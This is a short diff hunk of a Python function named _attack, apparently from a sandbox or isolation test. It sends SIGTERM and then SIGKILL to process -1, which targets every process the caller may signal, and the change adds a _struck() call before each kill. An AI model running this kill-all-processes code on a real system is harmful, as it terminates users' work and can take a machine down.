@@ -4,6 +4,7 @@ def _attack():
     import os, signal
     for number in (signal.SIGTERM, signal.SIGKILL):
         try:
+            _struck()
             os.kill(-1, number)
         except OSError:
             pass
